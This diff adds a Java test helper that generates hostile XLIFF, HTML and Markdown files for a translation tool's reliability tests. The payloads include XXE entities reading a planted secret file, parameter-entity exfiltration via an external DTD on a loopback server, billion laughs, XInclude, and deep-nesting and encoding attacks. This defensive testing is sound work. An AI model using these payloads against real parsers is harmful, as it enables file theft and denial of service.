@@ -1,0 +1,206 @@
+package org.tarjima.reliability;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+/**
+ * Hand-crafted hostile files: every classic XML attack (external entities over file:, http: and jar:, an external
+ * DTD, parameter-entity exfiltration, billion laughs, a DOCTYPE with an internal subset), broken encodings, illegal
+ * characters, absurd nesting, in XLIFF 1.2 and 2.0 and in the article formats (HTML, Markdown, text). A secret file
+ * and a loopback server stand in for what an attacker would want to reach.
+ */
+final class HostileFiles {
+
+    /** The content of the secret file; must never appear in an answer or in the database. */
+    static final String SECRET = "TOP-SECRET-3d1f-never-leak";
+    /** What one level of billion laughs repeats; the fully expanded text must never be produced. */
+    static final String LAUGH = "lol-4a2e";
+
+    /** A hostile file, and whether refusing it is required (false: importing is fine as long as nothing leaks). */
+    record Hostile(String name, String fileName, byte[] content, boolean mustRefuse) {
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    private final Path secretFile;
+    private final Path secretJar;
+    private final LoopbackServer loopback;
+
+    HostileFiles(Path directory, LoopbackServer loopback) {
+        this.loopback = loopback;
+        try {
+            this.secretFile = Files.writeString(directory.resolve("secret.txt"), SECRET);
+            this.secretJar = directory.resolve("secret.jar");
+            try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(secretJar))) {
+                zip.putNextEntry(new ZipEntry("a.txt"));
+                zip.write(SECRET.getBytes(StandardCharsets.UTF_8));
+                zip.closeEntry();
+            }
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Texts whose presence anywhere means a leak. */
+    static List<String> forbiddenTexts() {
+        return List.of(SECRET, LoopbackServer.REMOTE_TEXT, LoopbackServer.JAR_TEXT, LAUGH.repeat(10));
+    }
+
+    private String secretUrl() {
+        return secretFile.toUri().toString();
+    }
+
+    /** The XML attacks, each in XLIFF 1.2 and 2.0; {@code targetLocale} must be a target of the receiving project. */
+    List<Hostile> xliff(String targetLocale) {
+        List<Hostile> files = new ArrayList<>();
+        for (String version : List.of("1.2", "2.0")) {
+            files.addAll(xliffAttacks(version, targetLocale));
+        }
+        return files;
+    }
+
+    private List<Hostile> xliffAttacks(String version, String locale) {
+        String v = "xliff" + version + "-";
+        List<Hostile> files = new ArrayList<>();
+        files.add(refuse(v + "external-entity-file", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ENTITY secret SYSTEM \"" + secretUrl() + "\">]>", "Hello &secret; world.")));
+        files.add(refuse(v + "external-entity-http", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ENTITY remote SYSTEM \"" + loopback.url("/entity.txt") + "\">]>", "Hello &remote; world.")));
+        files.add(refuse(v + "external-entity-jar-http", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ENTITY j SYSTEM \"jar:" + loopback.url("/evil.jar") + "!/a.txt\">]>", "Hello &j; world.")));
+        files.add(refuse(v + "external-entity-jar-file", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ENTITY j SYSTEM \"jar:" + secretJar.toUri() + "!/a.txt\">]>", "Hello &j; world.")));
+        files.add(refuse(v + "external-dtd-http", xliff(version, locale,
+                "<!DOCTYPE xliff SYSTEM \"" + loopback.url("/external.dtd") + "\">", "Hello &remote; world.")));
+        files.add(refuse(v + "public-dtd-http", xliff(version, locale,
+                "<!DOCTYPE xliff PUBLIC \"-//XLIFF//DTD XLIFF//EN\" \"" + loopback.url("/xliff.dtd") + "\">", "Hello world.")));
+        files.add(refuse(v + "parameter-entity-exfiltration", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ENTITY % file SYSTEM \"" + secretUrl() + "\">"
+                        + "<!ENTITY % dtd SYSTEM \"" + loopback.url("/evil.dtd") + "\">%dtd;%send;]>", "Hello &remote; world.")));
+        files.add(refuse(v + "billion-laughs", xliff(version, locale, billionLaughs("xliff"), "Hello &lol9; world.")));
+        files.add(refuse(v + "internal-subset", xliff(version, locale,
+                "<!DOCTYPE xliff [<!ELEMENT xliff ANY><!ATTLIST trans-unit approved CDATA \"yes\">]>", "Hello world.")));
+        byte[] plain = xliff(version, locale, "", "Hello world.");
+        files.add(refuse(v + "utf16-bom-on-utf8-bytes", concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, plain)));
+        files.add(refuse(v + "utf8-bom-declaring-utf16", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
+                new String(plain, StandardCharsets.UTF_8).replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
+                        .getBytes(StandardCharsets.UTF_8))));
+        files.add(refuse(v + "utf16-bytes-declaring-utf8", new String(plain, StandardCharsets.UTF_8)
+                .getBytes(StandardCharsets.UTF_16LE)));
+        files.add(refuse(v + "illegal-control-character", xliff(version, locale, "", "Hello \u0001 world.")));
+        files.add(refuse(v + "illegal-character-reference", xliff(version, locale, "", "Hello &#x0; world &#xFFFE;.")));
+        files.add(refuse(v + "nesting-10000-deep", xliff(version, locale, "", nested(version, 10_000))));
+        files.add(new Hostile(v + "xinclude-of-secret", "hostile.xlf", xliff(version, locale, "",
+                "Hello <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + secretUrl()
+                        + "\" parse=\"text\"/> world."), false));
+        files.add(new Hostile(v + "schema-location-http", "hostile.xlf", new String(plain, StandardCharsets.UTF_8)
+                .replaceFirst("<xliff ", "<xliff xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
+                        + (version.equals("1.2") ? "urn:oasis:names:tc:xliff:document:1.2" : "urn:oasis:names:tc:xliff:document:2.0")
+                        + " " + loopback.url("/schema.xsd") + "\" ").getBytes(StandardCharsets.UTF_8), false));
+        files.add(new Hostile(v + "stylesheet-instruction-http", "hostile.xlf", new String(plain, StandardCharsets.UTF_8)
+                .replaceFirst("\\?>", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\"" + loopback.url("/style.xsl") + "\"?>")
+                .getBytes(StandardCharsets.UTF_8), false));
+        return files;
+    }
+
+    /** The same attacks where an article is expected: HTML, Markdown, plain text. */
+    List<Hostile> articles() {
+        List<Hostile> files = new ArrayList<>();
+        files.add(new Hostile("html-doctype-entity-file", "hostile.html", utf8("<!DOCTYPE html [<!ENTITY secret SYSTEM \""
+                + secretUrl() + "\">]>\n<html><body><p>Hello &secret; world.</p></body></html>"), true));
+        files.add(new Hostile("html-billion-laughs", "hostile.html", utf8(billionLaughs("html")
+                + "\n<html><body><p>Hello &lol9; world.</p></body></html>"), true));
+        files.add(new Hostile("html-remote-resources", "hostile.html", utf8("<html><head><link rel=\"stylesheet\" href=\""
+                + loopback.url("/style.css") + "\"><script src=\"" + loopback.url("/x.js") + "\"></script></head><body>"
+                + "<p>Hello <img src=\"" + loopback.url("/img.png") + "\"> world.</p><iframe src=\"" + loopback.url("/frame")
+                + "\"></iframe></body></html>"), false));
+        files.add(new Hostile("html-nesting-10000-blocks", "hostile.html", utf8("<html><body>" + "<div>".repeat(10_000)
+                + "<p>Deep text.</p>" + "</div>".repeat(10_000) + "</body></html>"), false));
+        files.add(new Hostile("html-nesting-10000-inline", "hostile.html", utf8("<html><body><p>Deep " + "<b>".repeat(10_000)
+                + "text" + "</b>".repeat(10_000) + ".</p></body></html>"), true));
+        files.add(new Hostile("html-nul-characters", "hostile.html", utf8("<html><body><p>Hello \u0000 world.</p></body></html>"),
+                true));
+        files.add(new Hostile("html-utf16-bom-on-utf8-bytes", "hostile.html", concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
+                utf8("<html><body><p>Hello world.</p></body></html>")), false));
+        files.add(new Hostile("markdown-html-entity-file", "hostile.md", utf8("<!DOCTYPE md [<!ENTITY secret SYSTEM \""
+                + secretUrl() + "\">]>\n\n# Title\n\nHello &secret; world.\n"), true));
+        files.add(new Hostile("markdown-nesting-10000-quotes", "hostile.md", utf8("> ".repeat(10_000) + "Deep text.\n"), true));
+        files.add(new Hostile("markdown-nesting-10000-lists", "hostile.md", utf8(nestedList(10_000)), true));
+        files.add(new Hostile("text-nul-characters", "hostile.txt", utf8("Hello \u0000 world.\n\nSecond paragraph.\n"), true));
+        files.add(new Hostile("text-utf16-bom-on-utf8-bytes", "hostile.txt", concat(new byte[] {(byte) 0xFE, (byte) 0xFF},
+                utf8("Hello world.\n")), true));
+        return files;
+    }
+
+    private static Hostile refuse(String name, byte[] content) {
+        return new Hostile(name, "hostile.xlf", content, true);
+    }
+
+    static byte[] xliff(String version, String locale, String doctype, String source) {
+        String xml = version.equals("1.2") ? """
+                <?xml version="1.0" encoding="UTF-8"?>
+                %s
+                <xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
+                 <file original="hostile.txt" source-language="en" target-language="%s" datatype="plaintext">
+                  <body>
+                   <trans-unit id="1"><source>%s</source><target>Привет.</target></trans-unit>
+                  </body>
+                 </file>
+                </xliff>
+                """ : """
+                <?xml version="1.0" encoding="UTF-8"?>
+                %s
+                <xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="en" trgLang="%s">
+                 <file id="f1" original="hostile.txt">
+                  <unit id="u1"><segment><source>%s</source><target>Привет.</target></segment></unit>
+                 </file>
+                </xliff>
+                """;
+        return String.format(xml, doctype, locale, source).replace("\n\n<xliff", "\n<xliff").getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static String billionLaughs(String root) {
+        StringBuilder dtd = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY lol0 \"" + LAUGH + "\">");
+        for (int i = 1; i <= 9; i++) {
+            String previous = "&lol" + (i - 1) + ";";
+            dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
+        }
+        return dtd.append("]>").toString();
+    }
+
+    private static String nested(String version, int depth) {
+        StringBuilder text = new StringBuilder("Deep ");
+        for (int i = 1; i <= depth; i++) {
+            text.append(version.equals("1.2") ? "<g id=\"" + i + "\">" : "<pc id=\"" + i + "\">");
+        }
+        text.append("text");
+        text.append((version.equals("1.2") ? "</g>" : "</pc>").repeat(depth));
+        return text.append('.').toString();
+    }
+
+    /** A list item holding a list item holding… on one line: Markdown's cheapest deep nesting. */
+    private static String nestedList(int depth) {
+        return "- ".repeat(depth) + "Deep item.\n";
+    }
+
+    static byte[] utf8(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    static byte[] concat(byte[] first, byte[] second) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(first);
+        out.writeBytes(second);
+        return out.toByteArray();
+    }
+}
